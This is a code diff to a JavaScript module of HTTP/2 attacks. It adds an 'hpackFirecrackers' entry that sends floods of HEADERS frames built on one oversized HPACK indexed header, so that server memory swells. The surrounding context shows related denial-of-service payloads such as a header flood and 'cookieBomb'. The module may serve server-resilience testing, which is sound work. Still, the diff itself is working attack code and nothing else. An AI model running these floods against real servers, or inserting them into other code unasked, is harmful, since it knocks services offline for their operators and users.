@@ -138,6 +138,12 @@ export const attacks = {
     if (i === 0) return frame(frameType.headers, 5, 1, Buffer.concat([head, indexedLiteral('x-bomb', 'b'.repeat(3900))]));
     return frame(frameType.headers, 5, id(i), Buffer.concat([head, Buffer.alloc(16_000, 0xbe)]));
   }),
+  // 236 KB each: too much for a request, too little to be worth the connection.
+  hpackFirecrackers: flood((i) => {
+    const head = headerBlock(fields('GET', '/'));
+    if (i === 0) return frame(frameType.headers, 5, 1, Buffer.concat([head, indexedLiteral('x-bomb', 'b'.repeat(3900))]));
+    return times(20, (k) => frame(frameType.headers, 5, id(i * 20 + k), Buffer.concat([head, Buffer.alloc(60, 0xbe)])));
+  }),
   // Requests within every limit, each of 30 KB out of 150 bytes, whose responses are not taken: they hold what they can.
   cookieBomb: async (options) => {
     const connection = await h2(options, settings([4, 0]));
